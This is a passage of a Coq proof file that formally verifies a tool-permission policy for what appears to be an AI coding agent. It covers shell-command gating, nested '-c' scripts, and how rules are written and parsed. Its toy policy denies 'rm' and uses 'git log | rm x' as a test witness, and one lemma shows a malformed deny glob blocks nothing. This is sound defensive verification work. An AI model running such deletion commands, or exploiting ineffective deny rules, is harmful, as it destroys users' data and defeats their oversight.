           right. apply IH. exists n, s, segs', p', ws'. split_and!; try done. lia.
    + cbn [evaluate_bash_command_segments]. rewrite E. split; [intros [r ?]; done|].
      intros (n & s & segs' & p' & ws' & Hn & Hlt & E' & Hp' & Hws' & Hr'). destruct Hn; congruence.
Qed.

Lemma segments_clear self fuel : ∀ cmd,
  evaluate_bash_command_segments self fuel cmd = None ↔ clear_within self fuel cmd.
Proof.
  induction fuel as [|fuel IH]; intros cmd.
  - split; [done|]. intros Hc. destruct (Hc 0 cmd) as [? _]; [constructor|lia].
  - destruct (all_commands_from_script cmd) as [segments|] eqn:E.
    + rewrite (segments_eq _ _ _ _ E), combine_all_None, Forall_forall. setoid_rewrite elem_of_forms.
      unfold segment_decision. setoid_rewrite combine_None. split.
      * intros Hs n script Hn. destruct Hn as [cmd|n cmd segs p ws inner s E2 Hp Hws Hi Hn].
        -- split; [lia|]. exists segments. split; [done|]. intros p ws Hp Hws. by apply (Hs ws); eauto.
        -- simplify_eq. destruct (Hs ws) as [_ Hin]; [by eauto|]. rewrite Hi in Hin. cbn in Hin.
           destruct (proj1 (IH inner) Hin n s Hn) as [Hlt He]. split; [lia|done].
      * intros Hc ws (p & Hp & Hws). destruct (Hc 0 cmd) as (_ & segs & E2 & Hs); [constructor|]. simplify_eq.
        split; [by apply (Hs p)|]. destruct (shell_dash_c_script ws) as [inner|] eqn:Hi; [|done]. cbn. apply IH.
        intros n s Hn. destruct (Hc (S n) s) as [Hlt He]; [by eapply nested_in|]. split; [lia|done].
    + cbn [evaluate_bash_command_segments]. rewrite E. split; [done|]. intros Hc.
      destruct (Hc 0 cmd) as (_ & segs & E2 & _); [constructor|congruence].
Qed.

(** C7: The gate on shell commands of a policy that restricts any rejects a script exactly
    when a command in it, bare or behind its wrappers, is denied, also inside scripts
    given to a shell with [-c] up to the depth of eight; it lets a script pass exactly
    when every script in it decomposes, lies within this depth, and no command is
    denied or to be asked about; in all other cases it asks. It never allows. *)
Theorem bash_policy_exact self cmd : has_bash_command_restrictions self = true →
  let d := evaluate_bash_command_policy self cmd in
  (rejects d ↔ denied_within self MAX_SHELL_DEPTH cmd) ∧
  (d = None ↔ clear_within self MAX_SHELL_DEPTH cmd) ∧
  (d = Some Dec.Ask ∨ rejects d ∨ d = None).
Proof.
  intros Hb. unfold evaluate_bash_command_policy. rewrite Hb. cbn [negb]. split_and!.
  - apply segments_reject.
  - apply segments_clear.
  - pose proof (segments_object self MAX_SHELL_DEPTH cmd) as Ho. unfold objection in Ho. naive_solver.
Qed.

(** A rule whose pattern is no glob is kept, and never matches a file, so a denial
    written this way denies nothing. *)
Theorem bad_glob_denies_nothing rule p (path : string) : rule_pattern rule = Some p → p ≠ "*" → Pattern_new p = None →
  rule_matches (AK.Read (Some path)) (rule, compile_pattern rule) = false ∧
  rule_matches (AK.Edit path) (rule, compile_pattern rule) = false.
Proof.
  intros Ep Hp Hn. unfold rule_matches, pattern_matches, compile_pattern. cbn [fst snd]. rewrite Ep, bool_decide_eq_false_2 by done.
  rewrite Hn. cbn. by rewrite !andb_false_r.
Qed.

End Laws.
End PolicyLaws.

(** * Writing a rule and reading it back *)

Module Export RuleRoundtrip.

Definition backslash : ascii := "\"%char.
Definition open_paren : ascii := "("%char.

(** After the text, an odd number of backslashes stands just before. *)
Fixpoint odd_after (odd : bool) (s : string) : bool :=
  match s with "" => odd | String b s => odd_after (bool_decide (b = backslash) && negb odd) s end.

(** Text between visible bytes is not trimmed. *)
Lemma trim_between a b s : plain_byte a = true → plain_byte b = true →
  trim (String a s +:+ String b "") = String a s +:+ String b "".
Proof.
  intros Ha Hb. assert (Hcont : is_continuation b = false) by (destruct b as [[] [] [] [] [] [] [] []]; vm_compute in Hb |- *; done).
  pose proof (chars_app_start (String a s) b "" Hcont) as E. destruct (chars_first a s) as (c & cs & Ec).
  unfold trim, trim_by. rewrite E, Ec. change (chars (String b "")) with [String b ""]. cbn [app drop_while].
  rewrite plain_first_not_space by done. rewrite app_comm_cons, reverse_app, reverse_singleton. cbn [app drop_while].
  rewrite plain_byte_not_space by done. rewrite reverse_cons, reverse_involutive, <-Ec.
  change [String b ""] with (chars (String b "")). rewrite <-E. apply concat_chars.
Qed.

Lemma unescaped_at_app target s u : ∀ odd i,
  unescaped_at odd target (s +:+ u) i =
  unescaped_at odd target s i ++ unescaped_at (odd_after odd s) target u (i + String.length s).
Proof.
  induction s as [|a s IH]; intros odd i; cbn [unescaped_at odd_after String.length].
  - by rewrite app_nil_l_str, Nat.add_0_r.
  - rewrite app_cons_str. cbn [unescaped_at]. rewrite IH, app_assoc. unfold backslash. do 2 f_equal. lia.
Qed.

Lemma unescaped_at_below target s : ∀ odd i c, c ∈ unescaped_at odd target s i → c < i + String.length s.
Proof.
  induction s as [|a s IH]; intros odd i c; cbn [unescaped_at String.length]; [by intros ?%not_elem_of_nil|].
  intros [Hc|Hc%IH]%elem_of_app; [|lia]. case_match; [apply list_elem_of_singleton in Hc; lia|by apply not_elem_of_nil in Hc].
Qed.

(** A byte that stands somewhere with an even number of backslashes before it. *)
Definition stands_unescaped (target : ascii) (s : string) : Prop :=
  ∃ u v, s = u +:+ String target v ∧ odd_after false u = false.

Lemma unescaped_at_none target s : ∀ odd i,
  unescaped_at odd target s i = [] ↔ ∀ u v, s = u +:+ String target v → odd_after odd u = true.
Proof.
  induction s as [|a s IH]; intros odd i; cbn [unescaped_at].
  { split; [|done]. intros _ u v E. by destruct u. }
  split.
  - intros [Hh Ht]%app_nil [|b u] v E; [rewrite app_nil_l_str in E; injection E as -> ->|rewrite app_cons_str in E; injection E as <- ->].
    + cbn. rewrite bool_decide_eq_true_2 in Hh by done. by destruct odd.
    + cbn [odd_after]. by eapply IH.
  - intros Hall. apply app_nil. split.
    + case_bool_decide as E; [|done]. subst. specialize (Hall "" s eq_refl). cbn in Hall. by rewrite Hall.
    + apply IH. intros u v ->. exact (Hall (String a u) v eq_refl).
Qed.

Lemma no_open_paren s : find_first_unescaped s open_paren = None ↔ ¬ stands_unescaped open_paren s.
Proof.
  unfold find_first_unescaped, stands_unescaped. split.
  - intros Hn (u & v & E & Ho). assert (unescaped_at false open_paren s 0 = []) as Hnil by (by destruct (unescaped_at _ _ _ _)).
    rewrite (proj1 (unescaped_at_none _ _ _ _) Hnil u v E) in Ho. done.
  - intros Hn. assert (unescaped_at false open_paren s 0 = []) as ->; [|done]. apply unescaped_at_none. intros u v E.
    destruct (odd_after false u) eqn:Ho; [done|]. destruct Hn. by exists u, v.
Qed.

Lemma unescaped_at_name target s u : bytes_all is_ascii_alphabetic s = true → is_ascii_alphabetic target = false → ∀ i,
  unescaped_at false target (s +:+ u) i = unescaped_at false target u (i + String.length s).
Proof.
  intros Hs Ht. induction s as [|a s IH]; intros i; [by rewrite app_nil_l_str, Nat.add_0_r|].
  cbn [bytes_all] in Hs. apply andb_prop in Hs as [Ha Hs]. rewrite app_cons_str. cbn [unescaped_at String.length].
  rewrite bool_decide_eq_false_2 by (intros ->; congruence). cbn [app andb].
  rewrite bool_decide_eq_false_2 by (intros ->; by vm_compute in Ha). rewrite IH by done. f_equal. lia.
Qed.

(** The backslashes of a text mean themselves: none stands before a parenthesis or a
    backslash, nor at the end. *)
Definition calm (s : string) : Prop :=
  contains "\(" s = false ∧ contains "\)" s = false ∧ contains "\\" s = false ∧ ends_with "\" s = false.

(** The rules that are read back as they were written. *)
Definition readable (r : PermissionRule) : Prop :=
  match rule_pattern r with
  | None => rule_tool r ≠ TF.Any ∧ rule_mode r = PM.Glob
  | Some p =>
      if bool_decide (rule_tool r = TF.Any) then
        rule_mode r = PM.Glob ∧ p ≠ "" ∧ trim p = p ∧ tool_name_to_filter p = None ∧ ¬ stands_unescaped open_paren p
      else
        let text := pattern_text (rule_mode r) p in
        p ≠ "" ∧ text ≠ "*" ∧ trim text = text ∧ calm text ∧
        (rule_tool r = TF.Bash → strip_suffix ":*" text = None) ∧
        match rule_mode r with PM.Glob => strip_prefix "domain:" p = None | PM.Domain => True end
  end.

Lemma tool_name_never_any name t : tool_name_to_filter name = Some t → t ≠ TF.Any.
Proof. unfold tool_name_to_filter. repeat case_bool_decide; congruence. Qed.

Lemma filter_name_reads t : t ≠ TF.Any → tool_name_to_filter (filter_name t) = Some t ∧
  bytes_all is_ascii_alphabetic (filter_name t) = true ∧ trim (filter_name t) = filter_name t ∧
  ∃ a s, filter_name t = String a s ∧ plain_byte a = true.
Proof.
  destruct t; intros Ht; [done|..]; (split_and!; [vm_compute; reflexivity..|]); eexists _, _;
    (split; [reflexivity|vm_compute; reflexivity]).
Qed.

Lemma domain_text mode p : match mode with PM.Glob => strip_prefix "domain:" p = None | PM.Domain => True end →
  strip_domain_prefix (pattern_text mode p) = (p, mode).
Proof.
  unfold strip_domain_prefix. destruct mode; cbn [pattern_text]; [by intros ->|intros _]. by rewrite strip_prefix_app.
Qed.

(** *** The functions of the reader only ever shorten *)

Lemma trim_shortens s : String.length (trim s) ≤ String.length s ∧ (String.length (trim s) = String.length s → trim s = s).
Proof.
  destruct (trim_infix is_whitespace s) as (u & v & E). fold trim in E. pose proof (f_equal String.length E) as El.
  rewrite !length_app_str in El. split; [lia|]. intros Hl. destruct u, v; cbn in El; try lia.
  by rewrite app_nil_l_str, app_nil_r_str in E.
Qed.

Lemma replace_shortens p r s : String.length r < String.length p →
  String.length (replace p r s) ≤ String.length s ∧ (String.length (replace p r s) = String.length s → contains p s = false).
Proof.
  intros Hr. destruct (contains p s) eqn:E; [|by rewrite (replace_absent p r s E)].
  pose proof (length_replace p r s Hr E). split; lia.
Qed.

Lemma no_byte_contains c p s : contains_byte c s = false → contains (String c p) s = false.
Proof.
  intros Hn. destruct (contains (String c p) s) eqn:E; [|done]. apply contains_spec in E as (u & v & ->).
  rewrite contains_byte_app, app_cons_str, contains_byte_cons, bool_decide_eq_true_2 in Hn by done. by rewrite orb_true_r in Hn.
Qed.

Lemma unescape_shortens s : String.length (unescape_rule_content s) ≤ String.length s ∧
  (String.length (unescape_rule_content s) = String.length s →
   contains "\(" s = false ∧ contains "\)" s = false ∧ contains "\\" s = false).
Proof.
  unfold unescape_rule_content. destruct (contains_byte "\"%char s) eqn:Eb; cbn [negb].
  2: { split; [done|]. intros _. by split_and!; apply no_byte_contains. }
  destruct (replace_shortens "\(" "(" s) as [L1 E1]; [cbn; lia|].
  destruct (replace_shortens "\)" ")" (replace "\(" "(" s)) as [L2 E2]; [cbn; lia|].
  destruct (replace_shortens "\\" "\" (replace "\)" ")" (replace "\(" "(" s))) as [L3 E3]; [cbn; lia|].
  split; [lia|]. intros Hl. assert (contains "\(" s = false) as C1 by (apply E1; lia).
  rewrite (replace_absent _ _ _ C1) in *. assert (contains "\)" s = false) as C2 by (apply E2; lia).
  rewrite (replace_absent _ _ _ C2) in *. split_and!; [done..|]. apply E3. lia.
Qed.

Lemma unescape_calm s : contains "\(" s = false → contains "\)" s = false → contains "\\" s = false → unescape_rule_content s = s.
Proof. intros C1 C2 C3. unfold unescape_rule_content. rewrite (replace_absent _ _ _ C1), (replace_absent _ _ _ C2), (replace_absent _ _ _ C3). by case_match. Qed.

Lemma ends_with_cons a s : ends_with "\" (String a s) = if is_empty s then bool_decide (a = backslash) else ends_with "\" s.
Proof.
  assert (E : ∀ s, ends_with "\" s = true ↔ ∃ t, s = t +:+ "\").
  { intros x. unfold ends_with. rewrite bool_decide_eq_true. split; [intros [t Ht%strip_suffix_Some]; eauto|].
    intros [t Ht%strip_suffix_Some]. by exists t. }
  apply eq_true_iff_eq. rewrite E. destruct s as [|b s]; cbn [is_empty].
  - rewrite bool_decide_eq_true. split; [|intros ->; by exists ""]. intros [[|c t] Ht]; [by injection Ht|].
    rewrite app_cons_str in Ht. injection Ht as _ Ht. by destruct t.
  - rewrite E. split; intros [t Ht]; [|exists (String a t); by rewrite app_cons_str, <-Ht].
    destruct t as [|c t]; [by injection Ht|]. rewrite app_cons_str in Ht. injection Ht as _ Ht. by exists t.
Qed.

(** Without doubled backslashes, the one at the end is the only one to hide a byte after. *)
Lemma odd_after_end s : contains "\\" s = false → odd_after false s = ends_with "\" s.
Proof.
  enough (∀ n s, String.length s ≤ n → contains "\\" s = false → odd_after false s = ends_with "\" s) as H by (by eapply H).
  clear s. induction n as [|n IH]; intros s Hl Hc; [by destruct s; [|cbn in Hl; lia]|].
  destruct s as [|a s]; [done|]. rewrite ends_with_cons. cbn [odd_after String.length negb] in *. rewrite andb_true_r.
  rewrite contains_cons in Hc. apply orb_false_iff in Hc as [Hs Hc].
  destruct (decide (a = backslash)) as [->|Ha].
  2: { rewrite bool_decide_eq_false_2 by done. destruct s; [done|]. apply IH; [cbn in *; lia|done]. }
  rewrite bool_decide_eq_true_2 by done. destruct s as [|b s]; [done|]. cbn [is_empty odd_after negb]. rewrite andb_false_r.
  rewrite ends_with_cons. change "\\" with (String backslash (String backslash "")) in Hs.
  rewrite !starts_with_cons, bool_decide_eq_true_2 in Hs by done. cbn [andb] in Hs. apply andb_false_iff in Hs as [Hb|Hb]; [|done].
  rewrite contains_cons in Hc. apply orb_false_iff in Hc as [_ Hc]. destruct s; cbn [is_empty].
  - apply bool_decide_eq_false in Hb. by rewrite bool_decide_eq_false_2.
  - apply IH; [cbn in *; lia|done].
Qed.

(** *** What is read back *)

(** The content of a rule, from the text between its parentheses. *)
Definition read_content (tool : TF.ToolFilter) (raw : string) : string :=
  let pattern := if is_empty raw || bool_decide (raw = "*") then "" else unescape_rule_content raw in
  if bool_decide (tool = TF.Bash) then strip_bash_colon_wildcard pattern else pattern.

Definition close_paren (text : string) : option nat :=
  if odd_after false text then last (unescaped_at false ")"%char text 0) else Some (String.length text).

Lemma parse_formatted action tool text : tool ≠ TF.Any →
  parse_permission_rule (filter_name tool +:+ "(" +:+ text +:+ ")") action =
  match close_paren text with
  | None => Err (MalformedRule "missing closing parenthesis")
  | Some c =>
      let (pattern, mode) := strip_domain_prefix (read_content tool (trim (str_take c (text +:+ ")")))) in
      Ok (MkRule action tool (nonempty_pattern pattern) mode)
  end.
Proof.
  intros Ht. destruct (filter_name_reads tool Ht) as (Hf & Ha & Htr & a & s & En & Hpl). unfold parse_permission_rule.
  assert (E : trim (filter_name tool +:+ "(" +:+ text +:+ ")") = filter_name tool +:+ "(" +:+ text +:+ ")").
  { rewrite En, app_assoc_str, (app_assoc_str _ _ ")"), app_cons_str. change ")" with (String ")"%char ""). by apply trim_between. }
  rewrite E. unfold find_first_unescaped. rewrite unescaped_at_name by done. rewrite app_cons_str. cbn [unescaped_at].
  rewrite bool_decide_eq_true_2 by done. cbn [app head negb andb Nat.add]. rewrite app_nil_l_str.
  rewrite str_take_app, Htr. replace (S (String.length (filter_name tool))) with (String.length (filter_name tool) + 1) by lia.
  rewrite str_drop_app_add. cbn [str_drop]. unfold find_last_unescaped. rewrite unescaped_at_app. cbn [unescaped_at].
  rewrite bool_decide_eq_true_2 by done. cbn [andb Nat.add].
  assert (last (unescaped_at false ")"%char text 0 ++ (if negb (odd_after false text) then [String.length text] else []) ++ []) = close_paren text) as ->.
  { unfold close_paren. rewrite app_nil_r. destruct (odd_after false text); cbn [negb]; [by rewrite app_nil_r|by rewrite last_snoc]. }
  destruct (close_paren text) as [c|]; [|done]. by rewrite Hf.
Qed.

Lemma close_paren_below text c : close_paren text = Some c →
  c ≤ String.length text ∧ (c = String.length text → odd_after false text = false).
Proof.
  unfold close_paren. destruct (odd_after false text) eqn:E; [|by intros [= <-]].
  intros Hl%last_Some_elem_of%unescaped_at_below. cbn in Hl. split; lia.
Qed.

Lemma read_content_shortens tool raw : raw ≠ "" → String.length (read_content tool raw) ≤ String.length raw ∧
  (String.length (read_content tool raw) = String.length raw →
   raw ≠ "*" ∧ String.length (unescape_rule_content raw) = String.length raw ∧ (tool = TF.Bash → strip_suffix ":*" (unescape_rule_content raw) = None)).
Proof.
  intros Hne. unfold read_content. assert (is_empty raw = false) as -> by (by destruct raw). cbn [orb].
  destruct (unescape_shortens raw) as [L _]. assert (Hstrip : ∀ t x, strip_suffix ":*" t = Some x → String.length t = String.length x + 2).
  { intros t x ->%strip_suffix_Some. by rewrite length_app_str. }
  unfold strip_bash_colon_wildcard. destruct (decide (raw = "*")) as [->|E].
  - rewrite (bool_decide_eq_true_2 ("*" = "*")) by done. case_bool_decide; (split; [vm_compute; lia|intros Hl; by vm_compute in Hl]).
  - rewrite (bool_decide_eq_false_2 _ E). case_bool_decide as Et; [|split; [done|]; by intros ->].
    destruct (strip_suffix ":*" _) as [x|] eqn:Ex; cbn [default].
    + apply Hstrip in Ex. unfold id. split; lia.
    + split; [done|]. by intros ->.
Qed.

Lemma domain_back mode p pattern : strip_domain_prefix pattern = (p, mode) →
  pattern = pattern_text mode p ∧ match mode with PM.Glob => strip_prefix "domain:" p = None | PM.Domain => True end.
Proof.
  unfold strip_domain_prefix. destruct (strip_prefix "domain:" pattern) as [d|] eqn:E; intros [= <- <-]; [|done].
  split; [|done]. by apply strip_prefix_Some in E.
Qed.

Lemma pattern_text_nonempty mode p : p ≠ "" → pattern_text mode p ≠ "".
Proof. by destruct mode, p. Qed.

(** A pattern that comes back has lost nothing on the way. *)
Lemma formatted_readable action tool p mode : tool ≠ TF.Any →
  parse_permission_rule (filter_name tool +:+ "(" +:+ pattern_text mode p +:+ ")") action = Ok (MkRule action tool (Some p) mode) →
  readable (MkRule action tool (Some p) mode).
Proof.
  intros Ht. rewrite parse_formatted by done. set (text := pattern_text mode p).
  destruct (close_paren text) as [c|] eqn:Ec; [|done]. apply close_paren_below in Ec as [Hc Hodd].
  set (raw := trim _). destruct (strip_domain_prefix _) as [q m] eqn:Ed. intros [= Hq ->].
  unfold nonempty_pattern in Hq. destruct (is_empty q) eqn:Eq; [done|]. injection Hq as ->. assert (p ≠ "") as Hne by (by intros ->).
  apply domain_back in Ed as [Ed Hdom]. fold text in Ed. assert (text ≠ "") as Htne by (by apply pattern_text_nonempty).
  assert (Hrne : raw ≠ "") by (intros Er; rewrite Er in Ed; unfold read_content in Ed; cbn in Ed; by case_bool_decide).
  destruct (trim_shortens (str_take c (text +:+ ")"))) as [Lt Et]. fold raw in Lt, Et.
  rewrite length_str_take in Lt, Et by (rewrite length_app_str; cbn; lia).
  destruct (read_content_shortens tool raw Hrne) as [Lr Er]. rewrite Ed in Lr, Er.
  assert (c = String.length text) as -> by lia. rewrite str_take_app in Et. assert (raw = text) as Hrt by (apply Et; lia).
  rewrite Hrt in *. specialize (Er eq_refl) as (Hstar & Hun & Hcolon). destruct (unescape_shortens text) as [_ Hcalm].
  destruct (Hcalm Hun) as (C1 & C2 & C3). rewrite unescape_calm in Hcolon by done.
  unfold readable. cbn [rule_pattern rule_tool rule_mode]. rewrite bool_decide_eq_false_2 by done. fold text.
  assert (trim text = text) as Htr by (unfold raw in Hrt; by rewrite str_take_app in Hrt).
  split_and!; try done. unfold calm. split_and!; [done..|]. rewrite <-odd_after_end by done. by apply Hodd.
Qed.

Lemma readable_formatted action tool p mode : tool ≠ TF.Any → readable (MkRule action tool (Some p) mode) →
  parse_permission_rule (filter_name tool +:+ "(" +:+ pattern_text mode p +:+ ")") action = Ok (MkRule action tool (Some p) mode).
Proof.
  intros Ht. unfold readable. cbn [rule_pattern rule_tool rule_mode]. rewrite bool_decide_eq_false_2 by done.
  intros (Hne & Hstar & Htr & (C1 & C2 & C3 & Hend) & Hcolon & Hdom). rewrite parse_formatted by done.
  unfold close_paren. rewrite odd_after_end, Hend, str_take_app, Htr by done.
  assert (E : read_content tool (pattern_text mode p) = pattern_text mode p).
  { unfold read_content. pose proof (pattern_text_nonempty mode p Hne) as Htne.
    assert (is_empty (pattern_text mode p) = false) as -> by (by destruct (pattern_text mode p)).
    rewrite (bool_decide_eq_false_2 _ Hstar), unescape_calm by done. cbn [orb]. case_bool_decide; [|done].
    unfold strip_bash_colon_wildcard. by rewrite Hcolon. }
  rewrite E, domain_text by done. unfold nonempty_pattern. by destruct p.
Qed.

(** C31: A rule that is written to the settings is read back as itself exactly when it is
    [readable]: a pattern that is not empty, not the lone wildcard, has no space around it
    and none of the idioms of the syntax (the [domain:] mark, the [:*] of a command), and
    whose backslashes stand before no parenthesis, no other backslash and not at the end;
    or a bare tool; and a pattern for any tool that opens no parenthesis and names no tool. *)
Theorem rule_text_roundtrip r : parse_permission_rule (format_rule_string r) (rule_action r) = Ok r ↔ readable r.
Proof.
  destruct r as [action tool [p|] mode]; unfold format_rule_string; cbn [rule_tool rule_pattern rule_mode rule_action].
  - destruct (decide (tool = TF.Any)) as [->|Ht].
    2: { replace (match tool with TF.Any => p | _ => _ end) with (filter_name tool +:+ "(" +:+ pattern_text mode p +:+ ")") by (by destruct tool).
      split; [by apply formatted_readable|by apply readable_formatted]. }
    unfold readable. cbn [rule_pattern rule_tool rule_mode]. rewrite bool_decide_eq_true_2 by done. unfold parse_permission_rule. split.
    + destruct (find_first_unescaped (trim p) _) as [i|] eqn:Ei.
      { destruct (find_last_unescaped _ _); [|done]. destruct (tool_name_to_filter _) as [t|] eqn:Et; [|by case_match].
        destruct (strip_domain_prefix _). intros [= -> _ _]. by apply tool_name_never_any in Et. }
      destruct (tool_name_to_filter (trim p)) as [t|] eqn:Et; [by intros [= -> ]; apply tool_name_never_any in Et|].
      unfold nonempty_pattern. destruct (is_empty (trim p)) eqn:Ee; [done|]. intros [= Hp <-]. rewrite Hp in *.
      split_and!; [done|by intros ->|done|done|by apply no_open_paren].
    + intros (-> & Hne & Htr & Hname & Hopen). rewrite Htr. apply no_open_paren in Hopen. unfold open_paren in Hopen. rewrite Hopen, Hname.
      unfold nonempty_pattern. by destruct p.
  - unfold readable. cbn [rule_pattern rule_tool rule_mode]. destruct (decide (tool = TF.Any)) as [->|Ht]; [by split; [by vm_compute|intros []]|].
    replace (match tool with TF.Any => "*" | _ => _ end) with (filter_name tool) by (by destruct tool).
    assert (parse_permission_rule (filter_name tool) action = Ok (MkRule action tool None PM.Glob)) as -> by (by destruct tool; vm_compute).
    split; [by intros [= <-]|by intros [_ ->]].
Qed.

End RuleRoundtrip.

(** * A concrete policy *)

Module PolicyScene.

(** Patterns that are words to be found, URLs that are a host and a path. *)
#[local] Instance scene_libs : PermissionLibs := {|
  Pattern := string;
  Pattern_new p := if contains_byte "["%char p then None else Some p;
  matches_with p _ t := bool_decide (p = t);
  Url := string * string;
  url_parse u := rest ← strip_prefix "https://" u; Some (split_first (λ a, bool_decide (a = "/"%char)) rest, rest);
  host_str u := Some u.1;
  url_path u := u.2;
  to_lowercase := to_ascii_lowercase;
  Json := string;
  json_is_null j := is_empty j;
  json_null := "";
  json_to_string j := j;
|}.
#[local] Instance scene_bash : BashParser := Toy.toy_bash.

Definition deny (tool : TF.ToolFilter) (p : string) : PermissionRule := MkRule RA.Deny tool (Some p) PM.Glob.
Definition allow (tool : TF.ToolFilter) (p : string) : PermissionRule := MkRule RA.Allow tool (Some p) PM.Glob.
Definition scene_config : PermissionConfig := PermissionConfig_new [allow TF.Bash "git"; deny TF.Bash "rm"; deny TF.Read "["].

Lemma evaluate_precedence_witness :
  rules scene_config ≡ₚ rules (PermissionConfig_new (reverse (rules scene_config))) ∧
  decision_rank <$> evaluate (CompiledPolicy_new scene_config) (AK.Bash "rm x") = Some 3.
Proof.
  assert (Hp : rules scene_config ≡ₚ rules (PermissionConfig_new (reverse (rules scene_config)))) by (change (rules scene_config ≡ₚ reverse (rules scene_config)); by rewrite reverse_Permutation).
  split; [done|]. destruct (evaluate_precedence _ _ (AK.Bash "rm x") Hp) as (_ & _ & _ & _ & E). rewrite <-E. by vm_compute.
Defined.

Lemma bash_policy_exact_witness : denied_within (CompiledPolicy_new scene_config) MAX_SHELL_DEPTH "git log | rm x".
Proof.
  apply (proj1 (bash_policy_exact (CompiledPolicy_new scene_config) "git log | rm x" eq_refl)). eexists. by vm_compute.
Defined.

Lemma bad_glob_denies_nothing_witness :
  rule_matches (AK.Read (Some "[")) (deny TF.Read "[", compile_pattern (deny TF.Read "[")) = false.
Proof. apply (bad_glob_denies_nothing (deny TF.Read "[") "[" "["); by vm_compute. Defined.

(** Parentheses need no escape; a backslash at the end hides the closing one, and the
    catch-all comes back as a pattern. *)
Example rule_texts :
  parse_permission_rule (format_rule_string (deny TF.Bash "echo (hi)")) RA.Deny = Ok (deny TF.Bash "echo (hi)") ∧
  parse_permission_rule "Bash(dir c:\\)" RA.Deny = Ok (deny TF.Bash "dir c:\") ∧
  format_rule_string (deny TF.Bash "dir c:\") = "Bash(dir c:\)" ∧
  parse_permission_rule "Bash(dir c:\)" RA.Deny = Err (MalformedRule "missing closing parenthesis") ∧
  parse_permission_rule (format_rule_string (MkRule RA.Deny TF.Any None PM.Glob)) RA.Deny = Ok (deny TF.Any "*").
Proof. by vm_compute. Qed.

End PolicyScene.
